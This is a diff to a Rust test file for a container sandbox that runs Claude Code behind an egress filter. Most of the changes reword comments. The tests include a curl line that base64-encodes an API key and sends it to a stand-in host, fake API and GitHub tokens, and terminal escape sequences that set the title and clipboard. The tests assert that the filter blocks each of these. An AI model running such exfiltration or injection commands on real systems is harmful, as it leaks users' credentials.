@@ -1,5 +1,5 @@
-//! Real agents from a manifest, in sealed bottles: the real Claude Code against a Messages API of the test's own behind
-//! egress, without a terminal and at one; what is attached to, left, resized; secrets, and where they are not.
+//! Real agents from a manifest, in sealed bottles: the real Claude Code with a Messages API of this test behind
+//! egress, with and without a terminal; attaching, leaving and resizing; secrets, and where they must not be.
 
 use std::path::{Path, PathBuf};
 use std::process::{Command, Stdio};
@@ -11,12 +11,12 @@ use crate::support::tmux::Tmux;
 use nix::sys::signal::{Signal, kill};
 use nix::unistd::Pid;
 
-/// The API, and another host that is allowed.
+/// The API's host, and another allowed host.
 const API: &str = "api.anthropic.com";
 const OTHER: &str = "other.example.com";
 
-/// A Messages API that has one answer, as JSON or as events. It writes down the path of each request and whether it held
-/// the key, and serves every host the same.
+/// A Messages API with one answer, as JSON or as events. It logs each request's path and whether the request
+/// contained the key, and serves all hosts alike.
 const SERVER: &str = r#"
 import json, ssl, sys
 KEY = sys.argv[1]
@@ -56,12 +56,12 @@ server.socket = context.wrap_socket(server.socket, server_side=True)
 server.serve_forever()
 "#;
 
-/// Put together here, so that no scanner of repositories takes it for a real one.
+/// Assembled at run time, so that scanners of repositories do not take it for a real key.
 fn key() -> String {
     format!("sk-ant-api03-{}-{}AA", "0123456789abcdef".repeat(5), "wxyz-WXYZ_012")
 }
 
-/// A manifest, a project, and what the API needs.
+/// Writes a manifest, a project and the API's files.
 fn prepare(folder: &Path) -> PathBuf {
     let origin = folder.join("origin");
     std::fs::create_dir(&origin).unwrap();
@@ -87,7 +87,7 @@ agents:
 }
 
 fn start_api(bottle: &str, folder: &Path) -> Origin {
-    // Its address is given out anew until egress has its own.
+    // The address can only be reused once egress has its own.
     wait_for("egress", || {
         let state = ["inspect", "-f", "{{.State.Running}}", &format!("{bottle}-egress")];
         let output = Command::new("docker").args(state).output().unwrap();
@@ -131,18 +131,18 @@ fn the_real_claude_answers_without_a_terminal_and_its_key_goes_to_its_host_alone
     let encoded =
         inside(&format!("curl -sS -m 20 -d $(printf %s $ANTHROPIC_API_KEY | base64 -w0) https://{OTHER}/v1/messages"));
     assert!(encoded.contains("secret_found"), "{encoded}");
-    // Nor does another secret that looks like it go where this one may.
+    // A similar secret must not go to this secret's host.
     let similar = post(API, &format!("-H 'x-api-key: {}'", key().replace("0123", "3210")));
     assert!(similar.contains("secret_found"), "{similar}");
     let log = api.log();
     assert_eq!(log.matches("with the key").count(), 1, "{log}");
-    // The real program shows why, blames no key, and does not ask again.
+    // The real program shows the reason, does not blame the key, and does not retry.
     let token = ["ghp_", "wWPw5k4aXcaT4fNP0UcnZwJUVFk6LO0pINUx"].concat();
     let said =
         inside(&format!("timeout 60 claude --dangerously-skip-permissions -p 'keep {token}' 2>&1; echo code=$?"));
     assert!(said.contains("API Error: 400 refused by bottler: secret_found") && said.contains("code=1"), "{said}");
     assert!(!said.contains("authenticate") && !api.log().contains("keep"), "{said}");
-    // The variables of every authority, the system's own bundle, git's identity, and who this is.
+    // Variables for every CA bundle, the system's own bundle, git's identity, and the user.
     for (script, words) in [
         ("cat /etc/ssl/certs/ca-certificates.crt | grep -c BEGIN", ""),
         (
@@ -171,7 +171,8 @@ fn the_real_claude_answers_without_a_terminal_and_its_key_goes_to_its_host_alone
     world.assert_clean();
 }
 
-/// In tmux: Claude's own screen, through what limits it; left, found again, resized, ended; the terminal as it was.
+/// In tmux: Claude's own screen, with the terminal filter in between; leaving, attaching, resizing, ending; then the
+/// terminal is restored.
 #[test]
 fn the_real_claude_is_talked_to_at_a_terminal() {
     let world = World::new();
@@ -198,14 +199,14 @@ fn the_real_claude_is_talked_to_at_a_terminal() {
     wait_for("the size", || (size() == "30 100\n").then_some(()));
     tmux.line("/exit");
     tmux.wait("code=0");
-    // The terminal shows what is typed, and lines end where they did.
+    // The terminal echoes input, and line ends are as before.
     tmux.line("clear; echo still-$((40 + 2))");
     let screen = tmux.wait("still-42");
     assert!(screen.starts_with("still-42\nready$"), "{screen}");
     world.wait_gone(crate::support::process::PATIENCE);
 }
 
-/// A shell at a terminal: its exit code, Ctrl-C that is its own, a signal from outside that ends it, the terminal back.
+/// A shell on a terminal: its exit code, its own Ctrl-C, an outside signal that ends it, the restored terminal.
 #[test]
 fn a_terminal_is_given_and_taken_back() {
     let world = World::new();
@@ -224,12 +225,12 @@ fn a_terminal_is_given_and_taken_back() {
     wait_for("the command", || world.agent_running("sleep 1000"));
     tmux.keys(&["C-c"]);
     wait_for("the command's end", || world.agent_running("sleep 1000").is_none().then_some(()));
-    // What would set a title or fill the clipboard goes no further; with a pipe, nothing is changed.
+    // Sequences that set a title or the clipboard are removed on a terminal, but not in a pipe.
     tmux.line("printf '\\033]0;evil\\007\\033]52;c;ZXZpbA==\\007fine\\n'");
     tmux.wait("\nfine");
     tmux.line("exit 7");
     tmux.wait("code=7");
-    // The client is ended from outside: the bottle goes, and the terminal is as it was.
+    // An outside signal ends the client: the bottle is removed, and the terminal is restored.
     tmux.line(&format!("clear; {bottler} run shell --image {DEBIAN} --name term; echo code=$?"));
     wait_for("the agent", || world.agent_running("/bin/sh"));
     let clients = wait_for("the client", || {
@@ -247,11 +248,11 @@ fn a_terminal_is_given_and_taken_back() {
     world.wait_gone(crate::support::process::PATIENCE);
 }
 
-/// An image of one file, whoever the agent runs as; and every place where a secret of its must not be, while it lives and
-/// after that: asked for at the terminal, from a file, and from the host.
+/// An image with one file, for any user; and all places where the agent's secrets must not be, during and after its
+/// life. The secrets come from the terminal, a file and the host.
 #[test]
 fn promise_07_what_the_manifest_gives_is_the_agents_alone_also_in_an_image_without_a_shell() {
-    // Held, so that the cache of images is emptied behind this, too.
+    // Held, so that the image cache is emptied after this as well.
     let world = World::new();
     Debian::import();
     let root = tempfile::tempdir().unwrap();
@@ -301,7 +302,7 @@ fn promise_07_what_the_manifest_gives_is_the_agents_alone_also_in_an_image_witho
         let mut places = Vec::new();
         for object in world.objects() {
             places.push(Command::new("docker").args(["inspect", &object]).output().unwrap().stdout);
-            // What the agent itself wrote is its own.
+            // The agent's own output is excluded.
             if object != "secrets" {
                 places.push(Command::new("docker").args(["logs", &object]).output().unwrap().stdout);
             }
@@ -330,7 +331,7 @@ fn promise_07_what_the_manifest_gives_is_the_agents_alone_also_in_an_image_witho
     assert_eq!(world.run(&["stop", "secrets"]).code(), 0);
     tmux.wait("code=126");
     everywhere("after it ended");
-    // Not the whole cache, which others use meanwhile.
+    // Not the whole cache, which other tests use.
     docker(&["rmi", "-f", images.lines().next().unwrap(), tag]);
     world.assert_clean();
 }
